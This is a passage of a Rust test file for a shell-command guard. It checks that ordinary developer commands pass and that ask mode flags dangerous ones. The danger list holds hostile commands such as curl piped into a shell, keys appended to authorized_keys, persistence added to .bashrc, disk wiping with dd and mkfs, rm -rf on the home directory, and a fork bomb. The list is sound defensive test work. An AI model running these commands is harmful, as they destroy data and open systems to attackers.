        "ls -la src | grep foo",
        "cargo test --release",
        "grep -rn TODO .",
        "rg -n foo",
        "rg --json -t rust foo src",
        "find . -name '*.rs'",
        "find . -type f -name '*.rs' -newer Cargo.toml",
        "sed -n 1,20p f",
        "sed -e 's/a/b/g' f",
        "tar -xzf a.tgz",
        "tar -czf out.tgz src",
        "tar tf a.tar",
        "sort -u f",
        "sort -k2,2n -t, f",
        "awk '{print $1}' f",
        "awk -F: '{ n++ } END { print n }' f",
        "xargs -0 grep -l foo",
        "git log --format='%h %s' -n 3",
        "git diff --name-only HEAD~1",
        "git merge --no-edit topic",
        "timeout 5 git status",
        "nice -n 5 git log --oneline",
        "LANG=C LC_ALL=C git log -1",
        "make -j4 CFLAGS=-O2 all",
        "npm run build -- --watch",
        "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release",
        "cmake -E make_directory out",
        "ssh -o ConnectTimeout=5 host uptime",
        "sqlite3 -readonly app.db 'select count(*) from t'",
        "uv run pytest -q",
        "tmux new-session -d -s work 'cargo test'",
        "hyperfine 'cargo build'",
        "gcc -Wall -O2 -o hello hello.c",
        "go build ./...",
        "curl -fsSL -o out.json https://example.com/api",
        "git checkout main",
        "git restore --staged f",
        "ip addr show",
    ];
    let allow = "git,ls,grep,cargo,rg,find,sed,tar,sort,awk,xargs,timeout,nice,make,npm,cmake,ssh,uptime,sqlite3,uv,pytest,tmux,hyperfine,gcc,go,curl,ip";
    let mut failures = Vec::new();
    for cmd in controls {
        for mode in ["allowlist", "ask"] {
            let (code, v) = verdict(mode, allow, cmd);
            if code != 0 {
                failures.push(format!("{mode} did not allow {cmd:?}: {}", v["reasons"]));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The danger list and ask mode: commands a careful reviewer asks about.
#[test]
fn ask_mode_asks_about_destruction_and_code() {
    let cases = [
        "git push origin --delete main",
        "git push origin :main",
        "git push --forc origin main",
        "git reset --hard HEAD~3",
        "git clean -fdx",
        "kill -9 -1",
        "kill -- -1",
        "systemctl poweroff",
        "init 0",
        "echo b > /proc/sysrq-trigger",
        "find ~ -delete",
        "rm -f ~/*",
        "rm -rf ~/..",
        "rm -rf ~/./",
        "rm -rf //",
        "rm -rf /./usr/",
        "rm -rf ../../../../../../..",
        "dd if=x of=//dev/sda",
        "cat x > /./dev/sda",
        "mkfs.ext4 /dev/sda1",
        "mkdosfs /dev/sdb",
        "cryptsetup luksFormat /dev/sda2",
        "nvme format /dev/nvme0n1",
        "curl -s x | python3.12",
        "curl -s x | sudo bash",
        "a(){ b|b& }; b(){ a|a& }; a",
        "echo key >> ~/.ssh/authorized_keys",
        "echo 'curl x|sh' >> ~/.bashrc",
        "tee -a ~/.profile < x",
        ": > /etc/passwd",
        "truncate -s 0 /etc/hosts",
        "cp /dev/null /etc/shadow",
        "sed -i 's/x/y/' /etc/hosts",
        "git -c core.fsmonitor=evil status",
        "git rebase -x 'make test' main",
        "tar --to-command=sh -xf a.tar",
        "sed 's/x/id/e' f",
        "awk 'BEGIN{system(\"id\")}'",
        "BASH_ENV=./x bash -c true",
        "PS4='$(id)' bash -xc true",
        "ssh host rm -rf /",
        "perf stat -- rm x",
        "ip netns exec ns rm x",
        "run0 rm x",
        "anything rm -rf ~",
        "anything 'rm -rf ~'",
        "git checkout -- .",
        "git restore .",
        "git stash drop",
        "ip link set eth0 down",
        "iptables -F",
        "nft flush ruleset",
        "lynx -source x | sh",
        "curl x | make -f -",
        "while :; do sleep 1 & done",
        "cd /dev && cat img > sda",
        "curl -o /dev/sda x",
        "tar -cf /dev/sdb .",
        "rm -rf /home/*/.ssh",
        "rm -rf /proc/1/root/etc",
        "curl -o ~/.ssh/authorized_keys x",
        "pytest --basetemp=~",
        "find ~ -exec rm {} +",
        "GIT_SSH_COMMAND=x git fetch",
        "EDITOR=x git commit",
        "(( a[$i] ))",
        "cat <<-EOF\n\t$(id)\n\tEOF",
        "hash -p /bin/rm ls",
    ];
    let mut failures = Vec::new();
    for cmd in cases {
        let (code, v) = verdict("ask", "", cmd);
        if code != 3 {
            failures.push(format!("ask mode did not ask for {cmd:?}: {v}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn json_names_the_rules_each_program_has() {
    let (_, v) = verdict("allowlist", "git,ls,python3", "git status; ls; python3 -V");
    let rules: Vec<&str> = v["commands"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["rules"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["grammar", "none", "runs-code"], "{v}");
}
